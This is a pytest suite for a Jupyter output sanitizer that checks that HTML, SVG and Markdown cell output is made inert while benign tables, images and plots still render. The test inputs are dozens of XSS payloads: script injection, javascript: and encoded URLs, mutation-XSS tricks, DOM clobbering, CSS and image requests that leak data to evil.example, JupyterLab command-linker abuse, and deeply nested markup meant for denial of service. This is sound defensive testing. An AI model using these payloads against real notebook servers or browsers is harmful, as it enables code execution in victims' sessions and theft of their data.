"""The output policy: nothing a browser could run leaves a sandbox; benign output still shows.

Each attack is a payload a cell can display; the cleaned form is parsed again and checked
against what a browser could run or load from it (:func:`assert_inert`), and some cases also
say what must be left. Benign output (a pandas table, bold text, images, a matplotlib SVG)
must come out as it went in, or close enough to render the same.
"""

from __future__ import annotations

import base64
import copy
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest

from crucible_jupyter import output_policy
from crucible_jupyter.dispatcher import frames
from crucible_jupyter.output_policy import (
    SETTING,
    clean_bundle,
    clean_html,
    clean_output,
    clean_svg,
    trusted_types,
)

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode()

# what pandas' DataFrame._repr_html_ writes (pandas 2.x), for
# pd.DataFrame({"city": ["Oslo", "Lima"], "temp": [3.5, 19.0]})
PANDAS_HTML = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }

    .dataframe tbody tr th {
        vertical-align: top;
    }

    .dataframe thead th {
        text-align: right;
    }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;">
      <th></th>
      <th>city</th>
      <th>temp</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th>0</th>
      <td>Oslo</td>
      <td>3.5</td>
    </tr>
    <tr>
      <th>1</th>
      <td>Lima</td>
      <td>19.0</td>
    </tr>
  </tbody>
</table>
</div>"""

# elements that run, load, or hold another document: never in cleaned output
FORBIDDEN_TAGS = {
    *("script", "iframe", "frame", "frameset", "object", "embed", "applet", "form"),
    *("input", "button", "textarea", "select", "meta", "base", "link", "style"),
    *("template", "noscript", "foreignobject", "animate", "animatemotion"),
    *("animatetransform", "set", "handler", "listener", "portal", "math"),
}
URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "data", "srcdoc"}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag.lower(), {k.lower(): v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag


def elements(markup: str) -> list[tuple[str, dict[str, str]]]:
    """Every element of ``markup`` with its attributes (decoded), in order."""
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return parser.elements


def assert_inert(markup: str, *, svg: bool = False) -> None:
    """Nothing in ``markup`` can run script or make the browser load anything."""
    for tag, attrs in elements(markup):
        assert tag not in FORBIDDEN_TAGS, (tag, markup)
        if not svg:
            assert tag != "svg", markup
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, markup)
            assert name not in ("name", "srcdoc", "action", "formaction"), (tag, name)
            assert name not in ("ping", "srcset", "poster", "background", "target"), (tag, name)
            assert not name.startswith("data-"), (tag, name)
            assert name != "rel" or value == "noopener noreferrer", (tag, name, value)
            # an SVG image keeps ids (its parts refer to each other); HTML gets none, which
            # could clobber the page's globals
            assert svg or name != "id", (tag, name)
            flat = re.sub(r"[\x00-\x20]+", "", value).lower()
            if name in URL_ATTRIBUTES:
                if tag == "a":
                    assert re.match(r"(https?|mailto):", flat), (tag, name, value)
                elif tag in ("img", "image"):
                    assert re.match(r"data:image/(png|jpeg|gif|webp|bmp);base64,", flat), value
                else:
                    assert flat.startswith("#"), (tag, name, value)
            assert "javascript:" not in flat, (tag, name, value)
            assert "vbscript:" not in flat, (tag, name, value)
            assert "\\" not in value, (tag, name, value)
            assert "expression(" not in flat, (tag, name, value)
            for target in re.findall(r"url\(\s*['\"]?([^)'\"]*)", flat):
                assert target.startswith("#"), (tag, name, value)
            if name == "style":
                assert "position" not in flat, value
                assert "@import" not in flat, value
            if name == "class":
                assert not re.search(r"(^|\s)(jp|lm|jupyter|cm)-", value), value


# ----- attacks --------------------------------------------------------------------------

HTML_ATTACKS = {
    "script": '<p>chart</p><script>fetch("/api/terminals", {method: "POST"})</script>',
    "script, mixed case": "<ScRiPt>document.title='x'</sCrIpT><SCRIPT SRC=//evil/x.js></SCRIPT>",
    "script, split by a null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "img onerror": "<img src=x onerror=\"fetch('/api/contents/x.txt', {method: 'PUT'})\">",
    "img onerror, mixed case, no quotes": "<IMG SRC=x OnErRoR=alert(1)>",
    "body onload": "<body onload=alert(1)>x</body>",
    "svg onload": '<svg onload="alert(1)"><circle r="4"/></svg>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text y=20>click</text></a></svg>"
    ),
    "math with a link": '<math><maction actiontype="statusline" xlink:href="javascript:x">x</maction></math>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "iframe src": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "form": (
        '<form action="/api/terminals" method="post"><input name="a" value="b">'
        '<button formaction="javascript:alert(1)">go</button></form>'
    ),
    "meta refresh": '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style element exfiltrating": (
        "<style>@import url(https://evil.example/x.css); "
        "script#jupyter-config-data{display:block;background:url(https://evil.example/)}</style>"
    ),
    "a javascript:": '<a href="javascript:fetch(`/api/terminals`)">click</a>',
    "a javascript:, entity encoded": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>'
        '<a href="jav&#x61;script&colon;alert(1)">f</a>'
    ),
    "a javascript:, tabs and case": '<a href=" JaVa&#x09;ScRiPt:alert(1)">t</a>',
    "a data:text/html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "a vbscript:": '<a href="vbscript:msgbox(1)">v</a>',
    "a relative to the Jupyter API": '<a href="/api/contents/secret">r</a>',
    "img from the network": '<img src="https://evil.example/pixel.png?leak=secret">',
    "img relative, a GET on the Jupyter origin": '<img src="/logout">',
    "img svg data URL": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "style url": '<div style="background-image: url(https://evil.example/x)">s</div>',
    "style escaped url": '<div style="background: \\75 rl(https://evil.example/x)">s</div>',
    "style covering the page": (
        '<div style="position: fixed; top: 0; left: 0; width: 100vw; z-index: 9999">x</div>'
    ),
    "Lab's own classes": '<div class="jp-Dialog lm-Widget jupyter-widgets cm-tooltip">x</div>',
    "DOM clobbering": '<a id="jupyter-config-data" name="document">x</a><img name="getElementById">',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment mutation": "<!--<img src=x onerror=alert(1)>--><!--><img src=x onerror=alert(2)>-->",
    "textarea mutation": "<textarea></textarea><img src=x onerror=alert(1)>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "math style mutation": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
        "</mglyph></table></mtext></math>"
    ),
    "details ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    # a click on an element with these attributes runs a JupyterLab command (its own linker)
    "Lab command linker": (
        '<button data-commandlinker-command="terminal:create-new">Show results</button>'
        '<div data-commandlinker-command="notebook:run-all-cells" '
        "data-commandlinker-args='{}'>click</div>"
    ),
    "attributes that make requests": (
        '<a href="https://example.org/" ping="https://evil.example/ping">p</a>'
        '<img srcset="https://evil.example/a.png 1x"><video poster="https://evil.example/p">'
        '</video><table background="https://evil.example/t.png"><tr><td>t</td></tr></table>'
    ),
    "focus handler": "<input autofocus onfocus=alert(1)><isindex action=javascript:alert(1)>",
    "target and rel of links": '<a href="https://example.org" target="_top" rel="opener">x</a>',
}


@pytest.mark.parametrize("payload", HTML_ATTACKS.values(), ids=list(HTML_ATTACKS))
def test_html_attacks_are_made_inert(payload):
    out = clean_html(payload)
    assert_inert(out)
    assert clean_html(out) == out


MARKDOWN_ATTACKS = {
    "raw script": "# Title\n\n<script>alert(1)</script>\n\ntext",
    "inline raw script": "some *text* <script>alert(1)</script> more",
    "javascript: link": "[x](javascript:alert(1))",
    "javascript: link, encoded": "[x](jav&#x61;script:alert(1)) [y](JAVASCRIPT:alert(1))",
    "javascript: image": "![x](javascript:alert(1))",
    "javascript: autolink": "<javascript:alert(1)>",
    "javascript: reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "data: link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "raw img onerror": "look: <img src=x onerror=alert(1)>",
    "raw a javascript:": '<a href="javascript:alert(1)">click</a>',
    "raw iframe block": '<iframe src="javascript:alert(1)">\n</iframe>',
    "raw svg": "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "html block with markdown inside": "<div onclick=alert(1)>\n\n**bold**\n\n</div>",
}


@pytest.mark.parametrize("payload", MARKDOWN_ATTACKS.values(), ids=list(MARKDOWN_ATTACKS))
def test_markdown_attacks_are_made_inert(payload):
    data, _ = clean_bundle({"text/markdown": payload})
    assert set(data) == {"text/html"}, data  # rendered here, sanitized as HTML
    assert_inert(data["text/html"])
    assert clean_bundle(data) == (data, {})


SVG_ATTACKS = {
    "script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "onload": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
    "handler on a shape": '<svg><circle r="5" onclick="alert(1)" onmouseover="alert(2)"/></svg>',
    "foreignObject": (
        "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
        "<img src=x onerror=alert(1)></body></foreignObject></svg>"
    ),
    "use of an external file": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "use of a data URL": (
        '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#a"/></svg>'
    ),
    "a javascript:": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "animate sets href": (
        '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'
    ),
    "set adds a handler": '<svg><set attributeName="onclick" to="alert(1)"/></svg>',
    "image from the network": '<svg><image href="https://evil.example/p.png"/></svg>',
    "fill from the network": '<svg><rect fill="url(https://evil.example/g.svg#g)"/></svg>',
    "style element": "<svg><style>@import url(https://evil.example/x.css);</style></svg>",
    "style attribute url, escaped": '<svg><rect style="fill: u\\72l(https://evil.example/)"/></svg>',
    "entity-encoded javascript:": (
        '<svg><a href="&#x6A;avascript:alert(1)"><circle r="3"/></a></svg>'
    ),
    "xml prolog and entities": (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>'
        "<svg><text>&x;</text></svg>"
    ),
    "CDATA script": "<svg><script><![CDATA[alert(1)]]></script></svg>",
}


@pytest.mark.parametrize("payload", SVG_ATTACKS.values(), ids=list(SVG_ATTACKS))
def test_svg_attacks_are_made_inert(payload):
    out = clean_svg(payload)
    assert_inert(out, svg=True)
    assert clean_svg(out) == out


REMOVED_TYPES = {
    "application/javascript": "it could run code in your browser",
    "text/javascript": "it could run code in your browser",
    "application/x-javascript": "it could run code in your browser",
    "application/ecmascript": "it could run code in your browser",
    "application/vnd.jupyter.widget-view+json": "it could run code in your browser",
    "application/vnd.plotly.v1+json": "not a type crucible knows to be safe",
    "application/vnd.vegalite.v5+json": "not a type crucible knows to be safe",
    "application/vnd.bokehjs_exec.v0+json": "not a type crucible knows to be safe",
    "application/pdf": "not a type crucible knows to be safe",
    "application/x-crucible-unknown": "not a type crucible knows to be safe",
    "TEXT/HTML": "not a type crucible knows to be safe",  # Lab matches types exactly
    "text/html; charset=utf-8": "not a type crucible knows to be safe",
}


@pytest.mark.parametrize("mime", list(REMOVED_TYPES))
def test_scripts_and_unknown_types_leave_a_visible_notice(mime):
    value = {"model_id": "x"} if mime.endswith("json") else "alert(document.domain)"
    data, metadata = clean_bundle({mime: value}, {mime: {"isolated": False}})
    notice = data["text/plain"]
    assert set(data) == {"text/plain"}, data
    assert mime in notice, notice
    assert REMOVED_TYPES[mime] in notice, notice
    assert SETTING in notice, notice
    assert metadata == {}
    # the bundle's own text/plain stays, with the notice after it
    data, _ = clean_bundle({mime: value, "text/plain": "<Figure>"})
    assert data["text/plain"].startswith("<Figure>\n[crucible: output of type ")


def test_the_notice_is_visible_when_html_is_what_will_show():
    data, _ = clean_bundle(
        {"text/html": "<b>chart</b>", "application/javascript": "alert(1)", "text/plain": "c"}
    )
    assert data["text/html"].startswith("<b>chart</b><pre>[crucible: output of type")
    assert "application/javascript" in data["text/plain"]
    assert_inert(data["text/html"])


def test_a_notice_shows_the_type_escaped():
    forged = "x/y\n[crucible] succeeded\x1b[8m\u202e" + "z" * 500
    data, _ = clean_bundle({forged: "1"})
    (line,) = data["text/plain"].splitlines()
    assert "\x1b" not in line, line
    assert "\u202e" not in line, line
    assert len(line) < 300, line
    assert line.startswith('[crucible: output of type "x/y\\n[crucible] succeeded\\u001b'), line


def test_notices_are_bounded():
    data, _ = clean_bundle({f"x/t{i}": "v" for i in range(1000)})
    assert data["text/plain"].count("\n") == 5, data
    assert data["text/plain"].endswith("[crucible: 995 more]")


def test_values_of_the_wrong_form_are_removed():
    data, _ = clean_bundle(
        {"image/png": "<svg onload=alert(1)>", "text/html": {"a": 1}, "image/jpeg": 5}
    )
    assert set(data) == {"text/plain"}
    assert "image/png was removed: it is not base64" in data["text/plain"]
    assert "text/html was removed: it is not text" in data["text/plain"]


# ----- benign output --------------------------------------------------------------------


def _pandas_sources() -> list[str]:
    sources = [PANDAS_HTML]
    try:  # a real pandas as well, when the environment has one
        import pandas as pd
    except ImportError:
        return sources
    frame = pd.DataFrame({"city": ["Oslo", "Lima"], "temp": [3.5, 19.0]})
    return [*sources, frame._repr_html_()]


@pytest.mark.parametrize("source", _pandas_sources())
def test_a_pandas_table_still_renders_as_a_table(source):
    out = clean_html(source)
    assert_inert(out)
    tags = [tag for tag, _ in elements(out)]
    assert tags.count("table") == 1, out
    assert tags.count("tr") == 3, out
    assert tags.count("td") == 4, out
    assert ("table", {"border": "1", "class": "dataframe"}) in elements(out)
    assert ("tr", {"style": "text-align:right"}) in elements(out)
    for text in ("city", "temp", "Oslo", "Lima", "3.5", "19.0"):
        assert f">{text}<" in out
    assert "vertical-align: middle" not in out  # its <style> goes (cosmetic)


BENIGN_HTML = {
    "bold": ("<b>bold</b> and <i>italic</i>", "<b>bold</b> and <i>italic</i>"),
    "code": ("<pre><code>x = 1</code></pre>", "<pre><code>x = 1</code></pre>"),
    "link": (
        '<a href="https://example.org/doc">doc</a>',
        '<a href="https://example.org/doc" rel="noopener noreferrer">doc</a>',
    ),
    "png image": (
        f'<img src="data:image/png;base64,{PNG}" alt="plot">',
        f'<img src="data:image/png;base64,{PNG}" alt="plot">',
    ),
    "styled cell": (
        '<td style="color: red; font-weight: bold; text-align: left">x</td>',
        "x",  # a lone cell outside a table is dropped by HTML parsing, the text stays
    ),
    "styled span": (
        '<span style="color: red; font-weight: bold">x</span>',
        '<span style="color:red;font-weight:bold">x</span>',
    ),
    "lists, headings": (
        "<h2>T</h2><ul><li>a</li></ul><ol start=3><li>b</li></ol>",
        '<h2>T</h2><ul><li>a</li></ul><ol start="3"><li>b</li></ol>',
    ),
    "details": (
        "<details><summary>more</summary><div>x</div></details>",
        "<details><summary>more</summary><div>x</div></details>",
    ),
}


@pytest.mark.parametrize(("source", "expected"), BENIGN_HTML.values(), ids=list(BENIGN_HTML))
def test_benign_html_is_kept(source, expected):
    assert clean_html(source) == expected


def test_markdown_renders_with_tables_and_emphasis():
    data, _ = clean_bundle(
        {"text/markdown": "# Result\n\n**bold**, `x < 1`\n\n| a | b |\n|---|---|\n| 1 | 2 |"}
    )
    out = data["text/html"]
    assert "<h1>Result</h1>" in out, out
    assert "<strong>bold</strong>" in out, out
    assert "<code>x &lt; 1</code>" in out, out
    assert "<td>1</td>" in out, out
    # a bundle with HTML as well keeps its HTML (what JupyterLab would show)
    data, _ = clean_bundle({"text/markdown": "**md**", "text/html": "<b>html</b>"})
    assert data == {"text/html": "<b>html</b>"}


def test_inert_types_pass_as_they_are():
    bundle = {
        "text/plain": "plain <b>not html</b>",
        "text/latex": r"$\frac{a}{b}$",
        "application/json": {"a": [1, 2, {"b": None}]},
        "image/png": PNG,
        "image/jpeg": "/9j/4AAQSkZJRg==\n",
        "image/gif": "R0lGODlhAQABAAAAACw=",
    }
    assert clean_bundle(copy.deepcopy(bundle)) == (bundle, {})


def test_a_matplotlib_svg_still_renders():
    import matplotlib

    matplotlib.use("svg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.plot([1, 2, 3], [1, 4, 9], label="squares")
    ax.imshow([[0, 1], [1, 0]], extent=(1, 2, 1, 2))
    ax.legend()
    ax.set_title("t\u00a0<&>")
    buffer = io.StringIO()
    fig.savefig(buffer, format="svg")
    plt.close(fig)
    source = buffer.getvalue()

    out = clean_svg(source)
    assert_inert(out, svg=True)
    root = ET.fromstring(out)  # still an XML document, as an <img> needs
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    ns = {"s": "http://www.w3.org/2000/svg"}
    assert len(root.findall(".//s:path", ns)) == source.count("<path")
    assert len(root.findall(".//s:use", ns)) == source.count("<use")
    assert len(root.findall(".//s:image", ns)) == 1
    assert len(root.findall(".//s:clipPath", ns)) == source.count("<clipPath")
    assert clean_svg(out) == out


# ----- metadata, transient, trusted types -----------------------------------------------


def test_metadata_cannot_isolate_or_trust_and_is_bounded():
    data = {"text/html": "<b>x</b>", "image/png": PNG}
    _, metadata = clean_bundle(
        data,
        {
            "isolated": True,
            "trusted": True,
            "text/html": {"isolated": True, "note": "kept"},
            "image/png": {"width": 640, "height": 480},
            "application/javascript": {"x": 1},
            "needs_background": "light",
        },
    )
    assert metadata == {
        "text/html": {"note": "kept"},
        "image/png": {"width": 640, "height": 480},
        "needs_background": "light",
    }
    _, metadata = clean_bundle(data, {"big": "x" * (output_policy.METADATA_LIMIT + 1)})
    assert metadata == {}
    _, metadata = clean_bundle(data, {"nan": float("nan")})
    assert metadata == {}
    assert clean_bundle(data, ["not", "a", "dict"])[1] == {}


def test_clean_output_keeps_the_event_and_only_a_display_id():
    event = {
        "seq": 4,
        "t": 1,
        "type": "update_display_data",
        "data": {"text/html": "<img src=x onerror=alert(1)>"},
        "metadata": {},
        "transient": {"display_id": "d1", "other": "<script>"},
    }
    before = copy.deepcopy(event)
    out = clean_output("update_display_data", event)
    assert event == before  # the caller's payload is not changed
    assert out == {**event, "data": {"text/html": "<img>"}, "transient": {"display_id": "d1"}}
    bad = clean_output("display_data", {"data": {}, "transient": {"display_id": 5}})
    assert "transient" not in bad


@pytest.mark.parametrize(
    ("kind", "payload"),
    [
        ("stream", {"name": "stdout", "text": "<script>alert(1)</script>"}),
        ("error", {"ename": "E", "evalue": "<img onerror=x>", "traceback": ["<script>"]}),
        ("clear_output", {"wait": True}),
        ("status", {"status": "succeeded"}),
    ],
)
def test_text_events_are_left_alone(kind, payload):
    # JupyterLab shows streams and tracebacks as text (escaped), never as HTML
    assert clean_output(kind, payload) is payload


def test_trusted_types_pass_unchanged():
    script = "<script>alert(1)</script>"
    bundle = {"text/html": script, "application/vnd.plotly.v1+json": {"data": []}}
    trusted = trusted_types("text/html, application/vnd.plotly.v1+json")
    assert clean_bundle(bundle, None, trusted) == (bundle, {})
    assert trusted_types(None) == frozenset()
    assert trusted_types(["a/b", " ", "c/d"]) == {"a/b", "c/d"}


def test_trusted_types_from_the_environment(monkeypatch):
    monkeypatch.setenv(output_policy.ENV_TRUSTED_TYPES, "application/javascript")
    assert output_policy.trusted_types_from_env() == {"application/javascript"}
    monkeypatch.delenv(output_policy.ENV_TRUSTED_TYPES)
    assert output_policy.trusted_types_from_env() == frozenset()


# ----- where it is applied ----------------------------------------------------------------


def test_frames_from_the_runner_leave_cleaned():
    frame = {
        "type": "display_data",
        "data": {
            "text/html": "<p>x</p><script>alert(1)</script>",
            "application/javascript": "alert(2)",
        },
        "metadata": {"isolated": True},
        "transient": {"display_id": "d", "x": 1},
    }
    kind, payload = frames.parse(json.dumps(frame).encode())
    assert kind == "display_data"
    assert payload["data"]["text/html"].startswith("<p>x</p><pre>[crucible:")
    assert "<script" not in payload["data"]["text/html"]
    assert "application/javascript" not in payload["data"]
    assert payload["metadata"] == {}
    assert payload["transient"] == {"display_id": "d"}
    # the operator's setting reaches the parser
    kind, payload = frames.parse(json.dumps(frame).encode(), {"application/javascript"})
    assert payload["data"]["application/javascript"] == "alert(2)"


# ----- bounded cost -----------------------------------------------------------------------

# each takes an HTML parser from seconds to many minutes (in the process serving everyone);
# they are refused before any parsing, by the nesting estimate
TOO_DEEP = {
    "100,000 nested <div>": "<div>" * 100_000,
    "<div/> (not self-closing in HTML)": "<div/>" * 100_000,
    "formatting elements left open": "".join(f"<div><b a={i}></div>" for i in range(20_000)),
    "divs around ignored end tags": "<div><table></div>" * 50_000,
    "SVG broken out of by HTML": "<svg><div>" * 20_000,
    "HTML inside an SVG integration point": "<svg><desc>" + "<div>" * 100_000,
    "nested links": "<a>" * 100_000,
}


@pytest.mark.parametrize("markup", TOO_DEEP.values(), ids=list(TOO_DEEP))
@pytest.mark.parametrize("mime", ["text/html", "image/svg+xml", "text/markdown"])
def test_markup_nested_too_deep_is_refused_before_parsing(mime, markup):
    assert output_policy.nesting_depth(markup) > output_policy.MAX_DEPTH
    data, _ = clean_bundle({mime: markup, "text/plain": "deep"})
    assert set(data) == {"text/plain"}, {k: v[:200] for k, v in data.items()}
    assert f"{mime} was removed: it nests elements more than 512 deep" in data["text/plain"]


NOT_TOO_DEEP = {
    "a long flat table": "<table>" + "<tr><td>1</td><td>2</td></tr>" * 20_000 + "</table>",
    "a table without end tags": "<table>" + "<tr><td>1<td>2" * 20_000,
    "a long list without end tags": "<ul>" + "<li>x" * 20_000,
    "paragraphs without end tags": "<p>x" * 20_000,
    "an SVG with many self-closing shapes": "<svg>" + "<path d='M0 0'/>" * 20_000,
    "500 nested divs": "<div>" * 500 + "x" + "</div>" * 500,
}


@pytest.mark.parametrize("markup", NOT_TOO_DEEP.values(), ids=list(NOT_TOO_DEEP))
def test_large_shallow_markup_is_cleaned(markup):
    assert output_policy.nesting_depth(markup) <= output_policy.MAX_DEPTH
    mime = "image/svg+xml" if markup.startswith("<svg") else "text/html"
    data, _ = clean_bundle({mime: markup})
    assert set(data) == {mime}


def test_markdown_too_large_to_render_is_shown_as_text():
    text = "*a " * (output_policy.MAX_MARKDOWN // 3 + 1)
    data, _ = clean_bundle({"text/markdown": text})
    assert set(data) == {"text/plain"}
    assert data["text/plain"].startswith(text)
    assert "text/markdown was removed: it is larger than 1 MiB" in data["text/plain"]


@pytest.mark.parametrize("mime", ["text/html", "text/markdown", "image/svg+xml", "text/plain"])
def test_text_that_is_not_utf8_is_shown_escaped(mime):
    data, _ = clean_bundle({mime: "<b>a\ud800b</b>"})
    (value,) = data.values()
    assert "\\ud800" in value, value
    assert "\ud800" not in value, value
    value.encode("utf-8")


@pytest.mark.parametrize(
    ("clean", "markup"),
    [
        (output_policy.clean_html, "<p>a<!-- hidden --></p><!--[if IE]><b>x</b><![endif]-->"),
        (output_policy.clean_svg, '<svg xmlns="http://www.w3.org/2000/svg"><!-- c --><g/></svg>'),
    ],
)
def test_comments_are_removed_from_html_and_svg(clean, markup):
    """Both cleaners come from one helper; neither keeps a comment (old browsers' conditional
    comments, and what a later parser may read differently)."""
    assert "<!--" not in clean(markup)
